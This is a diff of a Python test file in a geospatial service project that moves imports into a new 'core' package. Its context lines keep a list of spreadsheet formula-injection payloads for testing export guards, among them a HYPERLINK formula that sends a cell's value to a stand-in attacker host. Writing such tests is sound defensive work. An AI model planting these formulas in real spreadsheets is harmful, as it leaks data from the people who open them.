@@ -21,9 +21,9 @@ from typer.testing import CliRunner
 
 from conftest import make_tiny_layers
 from geo_service.cli import app as cli_app
-from geo_service.dataset import Dataset
-from geo_service.io import read_dataset, write_dataset, write_table
-from geo_service.io.sheets import FORMULA_START, guard, unguard
+from geo_service.core.dataset import Dataset
+from geo_service.core.io import read_dataset, write_dataset, write_table
+from geo_service.core.io.sheets import FORMULA_START, guard, unguard
 from test_api_support import client, hdr, make_app
 
 PAYLOADS = ["=1+1", "+SUM(A1)", "-2+3", "@cmd", '=HYPERLINK("http://evil.example/?x="&A1)']
